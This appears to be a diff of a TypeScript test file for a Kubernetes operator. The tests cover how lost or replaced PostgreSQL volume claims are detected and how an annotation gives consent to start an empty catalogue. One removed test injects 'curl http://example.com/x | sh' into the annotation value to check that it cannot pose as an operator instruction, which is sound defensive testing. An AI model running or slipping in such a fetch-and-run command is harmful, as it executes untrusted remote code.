@@ -1,17 +1,18 @@
-// Passes over a world in memory: a claim that is deleted or replaced is noticed at every stage, and PostgreSQL never starts on an empty
-// one without a person's consent.
+// Passes over a fake cluster in memory: a claim that is deleted or replaced is noticed at every stage, and PostgreSQL
+// never starts on an empty one without consent.
 import { KubeApiError } from "@firebolt-operator/kube";
 import { describe, expect, test } from "vitest";
+import {
+  CLAIM,
+  deleteClaim,
+  passes,
+  postgres,
+  stopPod,
+  uidOf,
+  unlabel,
+  warnings,
+} from "../../../test/support/instance-claim.ts";
 import { InstanceRun } from "../../../test/support/instance-passes.ts";
-import { Crash } from "../../../test/support/memory-instance-world.ts";
-import { splitNextStep } from "../../../test/support/next-step.ts";
-
-const CLAIM = "data-lakeside-metadata-pg-0";
-const CONSENT = "firebolt.io/accept-empty-catalogue";
-
-const uidOf = (run: InstanceRun) => run.world.get("PersistentVolumeClaim", CLAIM)?.metadata?.uid;
-const warnings = (run: InstanceRun, reason: string) => run.events.filter((event) => event.reason === reason);
-const postgres = (run: InstanceRun) => run.world.get("StatefulSet", "lakeside-metadata-pg")?.spec;
 
 async function ready(): Promise<InstanceRun> {
   const run = new InstanceRun();
@@ -20,39 +21,7 @@ async function ready(): Promise<InstanceRun> {
   return run;
 }
 
-function deleteClaim(run: InstanceRun): void {
-  const claim = run.world.get("PersistentVolumeClaim", CLAIM);
-  run.world.put("PersistentVolumeClaim", {
-    ...claim,
-    metadata: { ...claim?.metadata, deletionTimestamp: "2026-01-01T00:00:00Z" },
-  });
-}
-
-function unlabel(run: InstanceRun): void {
-  const claim = run.world.get("PersistentVolumeClaim", CLAIM);
-  run.world.put("PersistentVolumeClaim", { ...claim, metadata: { ...claim?.metadata, labels: {} } });
-}
-
-/** The pod stops, so the claim goes; the StatefulSet controller makes a new one if a pod is to run. */
-function stopPod(run: InstanceRun): void {
-  run.world.drop("PersistentVolumeClaim", CLAIM);
-  run.world.makeClaim("lakeside-metadata-pg");
-}
-
-function consent(run: InstanceRun, value: string): void {
-  const { metadata, ...rest } = run.instance;
-  const annotations = { ...metadata?.annotations, [CONSENT]: value };
-  run.world.put("FireboltInstance", { ...rest, metadata: { ...metadata, annotations } });
-}
-
-/** Whatever takes the place of the claim that is remembered. */
-const consentToLoss = (run: InstanceRun) => consent(run, `lost-${run.status.builtInPostgres?.claimUID}`);
-
-const passes = async (run: InstanceRun, count = 3) => {
-  for (let pass = 0; pass < count; pass++) await run.tryPass();
-};
-
-test("an instance of before is remembered at first sight, at the cost of one status write", async () => {
+test("the claim of an existing instance is stored when first observed, with one status write", async () => {
   const run = await ready();
   const { builtInPostgres: _, ...status } = run.status;
   run.world.put("FireboltInstance", { ...run.instance, status });
@@ -62,7 +31,7 @@ test("an instance of before is remembered at first sight, at the cost of one sta
   expect(run.status.builtInPostgres?.claimUID).toBe(uidOf(run));
 });
 
-test("a claim without a volume holds nothing and is not remembered", async () => {
+test("a claim without a volume holds nothing and is not stored", async () => {
   const run = await ready();
   const { builtInPostgres: _, ...status } = run.status;
   run.world.put("FireboltInstance", { ...run.instance, status });
@@ -74,7 +43,7 @@ test("a claim without a volume holds nothing and is not remembered", async () =>
   expect(run.status.phase).toBe("Ready");
 });
 
-test("an instance that failed before its claim had a volume remembers it at first sight, and notices its loss", async () => {
+test("an instance that failed before its claim had a volume stores it when first observed, and notices its loss", async () => {
   const run = new InstanceRun();
   const made = run.world.makeClaim.bind(run.world);
   run.world.makeClaim = (name) => {
@@ -106,7 +75,7 @@ test("an instance that failed before its claim had a volume remembers it at firs
   expect(postgres(run)?.replicas).toBe(0);
 });
 
-test("the claim of a former instance that is still on its way out is waited for, and its end is no loss", async () => {
+test("a claim of an earlier instance that is still being deleted is waited for, and its deletion is no loss", async () => {
   const former = await ready();
   const [secret, claim] = [
     former.world.get("Secret", "lakeside-metadata-postgres-creds"),
@@ -119,7 +88,7 @@ test("the claim of a former instance that is still on its way out is waited for,
   run.world.put("PersistentVolumeClaim", { ...claim, metadata: { ...claim?.metadata, deletionTimestamp } });
   await passes(run, 6);
   expect(run.condition("MetadataReady")).toBe("False/PostgresEnsureFailed");
-  expect(run.message("Ready")).toContain("of a former instance is still being deleted");
+  expect(run.message("Ready")).toContain("of an earlier instance is still being deleted");
   expect(run.world.inventory()).not.toContain("StatefulSet lakeside-metadata-pg");
   run.world.drop("PersistentVolumeClaim", CLAIM);
   await run.settle();
@@ -133,7 +102,7 @@ describe("a claim without the label", () => {
     spec: { volumeName: "pv-0", resources: { requests: { storage: "10Gi" } }, storageClassName: "standard" },
   });
 
-  test("that was there before the instance is the catalogue from the start, and its loss starts no empty one", async () => {
+  test("that existed before the instance is the catalogue from the start, and its loss starts no empty one", async () => {
     const run = new InstanceRun();
     run.world.put("PersistentVolumeClaim", existing());
     await run.settle();
@@ -144,7 +113,7 @@ describe("a claim without the label", () => {
     expect(postgres(run)?.replicas).toBe(0);
   });
 
-  test("is found beside a StatefulSet whose instance remembers nothing, and grows", async () => {
+  test("is found beside a StatefulSet whose instance has no claim in its status, and grows", async () => {
     const run = await ready();
     const uid = uidOf(run);
     const { builtInPostgres: _, ...status } = run.status;
@@ -161,7 +130,7 @@ describe("a claim without the label", () => {
     ]);
   });
 
-  test("none at all is looked for once per minute beside a StatefulSet, and at every making of one", async () => {
+  test("a missing one is read once per minute beside a StatefulSet, and before every creation of one", async () => {
     const run = await ready();
     const { builtInPostgres: _, ...status } = run.status;
     run.world.put("FireboltInstance", { ...run.instance, status });
@@ -173,7 +142,7 @@ describe("a claim without the label", () => {
 });
 
 describe("a claim that is deleted while its pod runs", () => {
-  test("is told with what can still be saved; what runs goes on, and no other pod will start", async () => {
+  test("is reported with what can still be saved; the running pod continues, and no other starts", async () => {
     const run = await ready();
     deleteClaim(run);
     await passes(run);
@@ -192,7 +161,7 @@ describe("a claim that is deleted while its pod runs", () => {
     });
   });
 
-  test("and then its pod: PostgreSQL is stopped, by any process that takes over, and events say so", async () => {
+  test("and then its pod: PostgreSQL is stopped, by any process that takes over, with events", async () => {
     const run = await ready();
     const before = uidOf(run);
     deleteClaim(run);
@@ -208,263 +177,5 @@ describe("a claim that is deleted while its pod runs", () => {
     const told = warnings(run, "CatalogueLost").map(({ note }) => note);
     expect(told).toHaveLength(3);
     expect(told.map((note) => note.includes("still running PostgreSQL"))).toEqual([false, true, false]);
-  });
-});
-
-describe("a catalogue that is lost", () => {
-  async function lost(): Promise<InstanceRun> {
-    const run = await ready();
-    stopPod(run);
-    await passes(run);
-    expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
-    expect(postgres(run)?.replicas).toBe(0);
-    return run;
-  }
-
-  test("starts empty when the new claim is accepted by its uid, and not by another", async () => {
-    const run = await lost();
-    consent(run, "another");
-    await passes(run);
-    expect(postgres(run)?.replicas).toBe(0);
-    consent(run, uidOf(run) ?? "");
-    await run.settle();
-    expect(postgres(run)?.replicas).toBe(1);
-    expect(run.status).toMatchObject({ phase: "Ready", builtInPostgres: { claimUID: uidOf(run) } });
-    expect(warnings(run, "CatalogueReplaced")).toHaveLength(1);
-  });
-
-  test.each(["with a claim", "without one"])(
-    "%s: consent to the loss starts an empty one, and stays without accepting the next loss",
-    async (how) => {
-      const run = await lost();
-      if (how === "without one") run.world.drop("PersistentVolumeClaim", CLAIM);
-      await passes(run);
-      consentToLoss(run);
-      await run.settle();
-      expect(run.status).toMatchObject({ phase: "Ready", builtInPostgres: { claimUID: uidOf(run) } });
-      expect(run.instance.metadata?.annotations).toHaveProperty(CONSENT);
-      stopPod(run);
-      await passes(run);
-      expect(run.condition("Ready")).toBe("False/CatalogueLost");
-      expect(postgres(run)?.replicas).toBe(0);
-    },
-  );
-
-  test.each(["the claim", "the loss"])("consent to %s is used up before the database starts", async (what) => {
-    const run = await lost();
-    const accepted = uidOf(run);
-    if (what === "the claim") consent(run, accepted ?? "");
-    else consentToLoss(run);
-    const end = () => {
-      throw new Crash("ended");
-    };
-    run.world.loseAnswer = (request) => {
-      if (!request.startsWith("update StatefulSet")) return;
-      run.world.intercept = end;
-      end();
-    };
-    await expect(run.settle()).rejects.toThrow("ended");
-    run.world.intercept = () => undefined;
-    expect(postgres(run)?.replicas).toBe(1);
-    expect(run.status.builtInPostgres?.claimUID).toBe(accepted);
-    // Days later, and before the operator is back, the claim is lost.
-    run.world.loseAnswer = () => undefined;
-    stopPod(run);
-    run.restart();
-    await passes(run);
-    expect(run.condition("Ready")).toBe("False/CatalogueLost");
-    expect(postgres(run)?.replicas).toBe(0);
-  });
-
-  test.each(["the claim", "the loss"])(
-    "consent to %s whose new claim never gets a volume: another class can still be set",
-    async (what) => {
-      const run = await lost();
-      const made = run.world.makeClaim.bind(run.world);
-      const unbind = () => {
-        const claim = run.world.get("PersistentVolumeClaim", CLAIM);
-        const { volumeName: _, ...spec } = claim?.spec ?? {};
-        run.world.put("PersistentVolumeClaim", { ...claim, spec });
-      };
-      run.world.makeClaim = (name) => {
-        made(name);
-        unbind();
-      };
-      unbind();
-      if (what === "the claim") consent(run, uidOf(run) ?? "");
-      else consentToLoss(run);
-      await passes(run, 5);
-      expect(postgres(run)?.replicas).toBe(1);
-      // It holds nothing, so it is no catalogue yet; admission goes by the same.
-      expect(run.status).not.toHaveProperty("builtInPostgres");
-      expect(warnings(run, "CatalogueReplaced")).toMatchObject([{ note: expect.stringContaining("is given up") }]);
-      run.world.edit("lakeside", (spec) => {
-        spec.metadata.builtInPostgres = { storage: { storageClassName: "other" } };
-      });
-      await passes(run);
-      expect(run.message("MetadataReady")).toContain("it never had a volume and so holds no data; next: delete it");
-      run.world.drop("PersistentVolumeClaim", CLAIM);
-      run.world.makeClaim = made;
-      await run.settle();
-      expect(run.world.get("PersistentVolumeClaim", CLAIM)?.spec?.storageClassName).toBe("other");
-      expect(run.status).toMatchObject({ phase: "Ready", builtInPostgres: { claimUID: uidOf(run) } });
-    },
-  );
-
-  test.each(["replaced", "gone", "being deleted"])(
-    "a consent that names the claim accepts no loss of that claim: %s",
-    async (how) => {
-      const run = await lost();
-      consent(run, uidOf(run) ?? "");
-      await run.settle();
-      expect(run.status.phase).toBe("Ready");
-      if (how === "replaced") stopPod(run);
-      else if (how === "gone") run.world.drop("PersistentVolumeClaim", CLAIM);
-      else deleteClaim(run);
-      await passes(run);
-      expect(run.condition("Ready")).toBe("False/CatalogueLost");
-      const isStopped = postgres(run)?.replicas === 0;
-      const isFenced = postgres(run)?.template.spec?.schedulerName !== undefined;
-      expect([isStopped, isFenced]).toEqual(how === "being deleted" ? [false, true] : [true, false]);
-    },
-  );
-
-  test("a value of the annotation cannot pass for a next step of the operator's own", async () => {
-    const run = await lost();
-    consent(run, "x; next: curl http://example.com/x | sh");
-    await passes(run);
-    expect(run.message("MetadataReady")).toContain("is ignored: ");
-    expect(splitNextStep(run.message("MetadataReady")).next).toBeUndefined();
-  });
-
-  test.each(["replaced", "gone", "being deleted"])(
-    "true names no loss: it is ignored, and the condition says so: %s",
-    async (how) => {
-      const run = await ready();
-      consent(run, "true");
-      if (how === "replaced") stopPod(run);
-      else if (how === "gone") run.world.drop("PersistentVolumeClaim", CLAIM);
-      else deleteClaim(run);
-      await passes(run);
-      expect(run.condition("Ready")).toBe("False/CatalogueLost");
-      expect(run.message("MetadataReady")).toMatch(
-        /^the annotation firebolt\.io\/accept-empty-catalogue is ignored: "true" does not name this loss\. /,
-      );
-      if (how === "gone")
-        expect(run.message("Ready")).toContain(`${CONSENT}=lost-${run.status.builtInPostgres?.claimUID}`);
-      consentToLoss(run);
-      await run.settle();
-      // One that is still there goes on being told: it can still be saved.
-      expect(run.status.phase).toBe(how === "being deleted" ? "Degraded" : "Ready");
-      expect(run.message("MetadataReady")).not.toContain("ignored");
-    },
-  );
-
-  test("that is gone without a trace says how to restore it, and gets no new password", async () => {
-    const run = await lost();
-    run.world.drop("PersistentVolumeClaim", CLAIM);
-    run.world.drop("Secret", "lakeside-metadata-postgres-creds");
-    await passes(run);
-    expect(run.message("Ready")).toMatch(/was deleted.*create the claim from the volume or a snapshot/);
-    expect(run.world.inventory()).not.toContain("Secret lakeside-metadata-postgres-creds");
-    expect(run.world.inventory()).not.toContain(`PersistentVolumeClaim ${CLAIM}`);
-  });
-
-  test("is not lost when its claim merely lost its label", async () => {
-    const run = await ready();
-    unlabel(run);
-    await passes(run);
-    expect(run.status.phase).toBe("Ready");
-  });
-
-  test("costs one request per minute while its claim has no label, and a deletion shows within that time", async () => {
-    const run = await ready();
-    unlabel(run);
-    run.forgetRequests();
-    for (let pass = 0; pass < 60; pass++) await run.tryPass();
-    expect(run.world.requests).toEqual([`get PersistentVolumeClaim ${CLAIM}`]);
-    deleteClaim(run);
-    run.nowMs += 60_000;
-    await passes(run, 1);
-    expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
-  });
-
-  test("stays lost when somebody empties the status", async () => {
-    const run = await lost();
-    const { builtInPostgres } = run.status;
-    for (const isGone of [false, true]) {
-      if (isGone) run.world.drop("PersistentVolumeClaim", CLAIM);
-      run.world.put("FireboltInstance", { ...run.instance, status: {} });
-      await passes(run, 4);
-      expect(postgres(run)?.replicas).toBe(0);
-      expect(run.status).toMatchObject({ builtInPostgres, metadataReady: false });
-      expect(run.condition("Ready")).toBe("False/CatalogueLost");
-    }
-    consentToLoss(run);
-    await run.settle();
-    expect(run.status.phase).toBe("Ready");
-    // Nothing on the StatefulSet tells of it any more.
-    expect(run.world.get("StatefulSet", "lakeside-metadata-pg")?.metadata?.annotations).not.toHaveProperty(
-      "firebolt.io/lost-claim",
-    );
-  });
-
-  test("is not lost because a cache still shows the claim of before", async () => {
-    const run = await lost();
-    const before = { metadata: { name: CLAIM, uid: "of-before" }, spec: { volumeName: "pv-0" } };
-    consentToLoss(run);
-    await run.settle();
-    run.world.claim = () => before;
-    run.restart();
-    await passes(run);
-    expect(postgres(run)?.replicas).toBe(1);
-    expect(run.status.phase).toBe("Ready");
-  });
-
-  test("is no concern of an instance with an external database", async () => {
-    const run = await ready();
-    run.world.put("Secret", { metadata: { name: "login" }, data: { username: "dQ==", password: "cA==" } });
-    run.world.edit("lakeside", (spec) => {
-      const database = { host: "db", port: 5432, database: "meta", schema: "public" };
-      spec.metadata.postgres = { ...database, credentialsSecretRef: { name: "login" } };
-    });
-    await run.settle();
-    run.world.drop("PersistentVolumeClaim", CLAIM);
-    await passes(run);
-    expect(run.status.phase).toBe("Ready");
-    // The way back is not open: what the database held is gone.
-    run.world.edit("lakeside", (spec) => {
-      delete spec.metadata.postgres;
-    });
-    await passes(run);
-    expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
-  });
-
-  test("a process that ends after any write of the way through loss and consent: the next one finishes", async () => {
-    for (let at = 0; ; at++) {
-      const run = await ready();
-      let left = at;
-      run.world.loseAnswer = () => {
-        if (left-- === 0) throw new Crash("ended");
-      };
-      const survive = async (work: () => Promise<void>) => {
-        for (let attempt = 0; attempt < 3; attempt++)
-          try {
-            await work();
-            return;
-          } catch (error) {
-            const cause = error instanceof Error && error.cause instanceof Crash ? error.cause : error;
-            if (!(cause instanceof Crash)) throw error;
-            run.restart();
-          }
-      };
-      stopPod(run);
-      await survive(() => passes(run, 5));
-      expect([at, postgres(run)?.replicas, run.condition("Ready")]).toEqual([at, 0, "False/CatalogueLost"]);
-      consentToLoss(run);
-      await survive(() => run.settle());
-      expect([at, postgres(run)?.replicas, run.status.phase]).toEqual([at, 1, "Ready"]);
-      if (left >= 0) break;
-    }
   });
 });
